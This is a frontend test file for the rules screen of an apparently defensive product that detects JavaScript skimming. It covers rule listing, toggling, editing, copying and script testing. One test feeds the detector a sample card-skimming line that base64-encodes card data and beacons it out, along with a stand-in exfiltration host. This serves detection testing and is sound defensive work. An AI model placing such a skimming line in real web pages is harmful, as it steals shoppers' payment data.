import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import type { i18n as I18n } from 'i18next';
import { beforeAll, describe, expect, it } from 'vitest';
import { noSlots, refusal, renderWithListApi } from '@/components/data-table/testing/list-api';
import { createTestI18n } from '@/testing/i18n';
import { openDrawer } from '../shared/drawer.test-support';
import { ownRule, ownRuleDetail, rulesPage, testResult, vigilRule, vigilRuleDetail } from './rules.test-data';
import { RulesScreen } from './rules-screen';

let i18n: I18n;
beforeAll(async () => {
  i18n = await createTestI18n();
});

const viewer = { ...noSlots, useCanChange: () => false };

describe('JS attack patterns', { timeout: 15_000 }, () => {
  it('lists rules with key, family, severity, owner, hits and a switch; filters go to the API', async () => {
    const { expectRequest } = renderWithListApi(<RulesScreen slots={noSlots} />, {
      i18n,
      path: '/dork?family=magecart&severity=critical&owner=vigil&enabled=true&sort=-hits',
      answers: { '/js-rules': rulesPage },
    });
    await expectRequest('/js-rules', {
      family: 'magecart',
      severity: 'critical',
      owner: 'vigil',
      enabled: 'true',
      sort: '-hits',
    });
    const row = await screen.findByRole('row', { name: /VGL-SKIM-001/ });
    expect(row.textContent).toContain('magecart');
    expect(within(row).getByText('Critical')).toBeTruthy();
    expect(within(row).getByText('Vigil default')).toBeTruthy();
    expect(row.textContent).toContain('3');
    expect(within(row).getByRole('checkbox', { name: 'VGL-SKIM-001 enabled' })).toHaveProperty('checked', true);
    const own = screen.getByRole('row', { name: /CUS-001/ });
    expect(within(own).getByText('Your company')).toBeTruthy();
    expect(within(own).getByRole('checkbox', { name: 'CUS-001 enabled' })).toHaveProperty('checked', false);
  });

  it('switches a default rule off for the company', async () => {
    const { writes } = renderWithListApi(<RulesScreen slots={noSlots} />, {
      i18n,
      path: '/dork',
      answers: { '/js-rules': rulesPage, 'PUT /js-rules/1/enabled': { data: { ...vigilRule, enabled: false } } },
    });
    const row = await screen.findByRole('row', { name: /VGL-SKIM-001/ });
    fireEvent.click(within(row).getByRole('checkbox', { name: 'VGL-SKIM-001 enabled' }));
    await waitFor(() => expect(writes).toHaveLength(1));
    expect(writes[0]).toMatchObject({ method: 'PUT', path: '/js-rules/1/enabled', body: { enabled: false } });
  });

  it('shows a viewer the state in words, with no switch, no add and no test', async () => {
    renderWithListApi(<RulesScreen slots={viewer} />, { i18n, path: '/dork', answers: { '/js-rules': rulesPage } });
    const row = await screen.findByRole('row', { name: /VGL-SKIM-001/ });
    expect(within(row).queryByRole('checkbox')).toBeNull();
    expect(within(row).getByText('On')).toBeTruthy();
    expect(screen.queryByRole('button', { name: 'Add rule' })).toBeNull();
    fireEvent.click(screen.getByRole('tab', { name: 'Test a script' }));
    expect(await screen.findByText('Analysts and administrators can test scripts against the rules.')).toBeTruthy();
  });

  it("opens a company rule with its definition and versions, and saves an edit as the API's body", async () => {
    const { writes } = renderWithListApi(<RulesScreen slots={noSlots} />, {
      i18n,
      path: '/dork?rule=7',
      answers: { '/js-rules': rulesPage, '/js-rules/7': ownRuleDetail, 'PUT /js-rules/7': { data: ownRule } },
    });
    const detail = await openDrawer('rule-detail');
    expect(within(detail).getByTestId('rule-definition').textContent).toContain('imitates a well-known host');
    const versions = within(detail).getByTestId('rule-versions');
    expect(versions.textContent).toContain('Version 2');
    expect(versions.textContent).toContain('Version 1');
    expect(versions.textContent).toContain('Ana Analyst');
    fireEvent.click(within(detail).getByRole('button', { name: 'Edit rule' }));
    const dialog = await screen.findByRole('dialog', { name: 'Edit rule' });
    fireEvent.change(within(dialog).getByRole('combobox', { name: 'Severity' }), { target: { value: 'critical' } });
    const definition = within(dialog).getByRole('textbox', { name: /^Definition/ });
    // Not JSON: refused in the dialog, nothing sent.
    fireEvent.change(definition, { target: { value: '{"conditions": [' } });
    fireEvent.click(within(dialog).getByRole('button', { name: 'Save rule' }));
    await waitFor(() => expect(definition.getAttribute('aria-invalid')).toBe('true'));
    expect(dialog.textContent).toContain('The definition is not valid JSON');
    expect(writes).toHaveLength(0);
    fireEvent.change(definition, {
      target: {
        value: '{"match": "all", "conditions": [{"id": "a", "target": "content", "op": "contains", "value": "x"}]}',
      },
    });
    fireEvent.click(within(dialog).getByRole('button', { name: 'Save rule' }));
    await waitFor(() => expect(writes).toHaveLength(1));
    expect(writes[0]).toMatchObject({
      method: 'PUT',
      path: '/js-rules/7',
      body: {
        name: 'Our CDN look-alike',
        family: 'typosquat',
        severity: 'critical',
        reference: null,
        enabled: false,
        definition: { match: 'all', conditions: [{ id: 'a', target: 'content', op: 'contains', value: 'x' }] },
      },
    });
  });

  it("shows the server's reason for a bad regex and keeps the dialog open", async () => {
    renderWithListApi(<RulesScreen slots={noSlots} />, {
      i18n,
      path: '/dork',
      answers: {
        '/js-rules': rulesPage,
        'POST /js-rules': refusal(422, {
          message: 'The given data was invalid.',
          errors: { 'definition/conditions/0/value': ['Condition c1: invalid regex: missing closing )'] },
        }),
      },
    });
    fireEvent.click(await screen.findByRole('button', { name: 'Add rule' }));
    const dialog = await screen.findByRole('dialog', { name: 'Add rule' });
    fireEvent.change(within(dialog).getByRole('textbox', { name: /^Name/ }), { target: { value: 'Mine' } });
    fireEvent.change(within(dialog).getByRole('textbox', { name: /^Family/ }), { target: { value: 'custom' } });
    fireEvent.click(within(dialog).getByRole('button', { name: 'Save rule' }));
    expect(await within(dialog).findByText('Condition c1: invalid regex: missing closing )')).toBeTruthy();
    // Closed before the next test: a dialog left open keeps its layer in the dismissal stack.
    fireEvent.click(within(dialog).getByRole('button', { name: 'Cancel' }));
    await waitFor(() => expect(screen.queryByRole('dialog', { name: 'Add rule' })).toBeNull());
  });

  it("offers a copy, not an edit or delete, of one of Vigil's rules", async () => {
    const { writes } = renderWithListApi(<RulesScreen slots={noSlots} />, {
      i18n,
      path: '/dork?rule=1',
      answers: { '/js-rules': rulesPage, '/js-rules/1': vigilRuleDetail, 'POST /js-rules': { data: ownRule } },
    });
    const detail = await openDrawer('rule-detail');
    expect(within(detail).queryByRole('button', { name: 'Edit rule' })).toBeNull();
    expect(within(detail).queryByRole('button', { name: 'Delete rule' })).toBeNull();
    expect(within(detail).getByRole('link', { name: 'https://sansec.io/research/example' })).toBeTruthy();
    fireEvent.click(within(detail).getByRole('button', { name: 'Copy into a rule of your own' }));
    const dialog = await screen.findByRole('dialog', { name: 'Copy into a rule of your own' });
    fireEvent.click(within(dialog).getByRole('button', { name: 'Save rule' }));
    await waitFor(() => expect(writes).toHaveLength(1));
    expect(writes[0]).toMatchObject({
      method: 'POST',
      path: '/js-rules',
      body: {
        name: `${vigilRule.name} (copy)`,
        family: 'magecart',
        severity: 'critical',
        definition: vigilRule.definition,
      },
    });
  });

  it('runs a pasted script through the rules and shows each hit with its conditions and excerpt', async () => {
    const { writes } = renderWithListApi(<RulesScreen slots={noSlots} />, {
      i18n,
      path: '/dork?tab=test',
      answers: { 'POST /js-rules/test': testResult },
    });
    const form = await screen.findByRole('form', { name: 'Test a script' });
    fireEvent.change(within(form).getByRole('textbox', { name: 'Script' }), {
      target: { value: 'if (location.href.match(/onepage|checkout/)) navigator.sendBeacon(u, btoa(card))' },
    });
    fireEvent.change(within(form).getByRole('textbox', { name: /^Hosts or URLs/ }), {
      target: { value: 'collect.evil.test\n\n' },
    });
    fireEvent.click(within(form).getByRole('checkbox', { name: 'Reads payment-card fields' }));
    fireEvent.click(within(form).getByRole('button', { name: 'Run the rules' }));
    const hit = await screen.findByTestId('rule-hit');
    expect(writes[0]).toMatchObject({
      method: 'POST',
      path: '/js-rules/test',
      body: { url: null, destinations: ['collect.evil.test'], behaviours: ['reads_card_fields'] },
    });
    expect(screen.getByRole('heading', { name: '1 hit (18 rules run in 4 ms)' })).toBeTruthy();
    expect(hit.textContent).toContain('VGL-SKIM-001');
    expect(hit.textContent).toContain('Conditions that held: checkout, exfil');
    expect(within(hit).getByRole('region', { name: 'Excerpt' }).textContent).toContain('btoa(card)');
  });
});
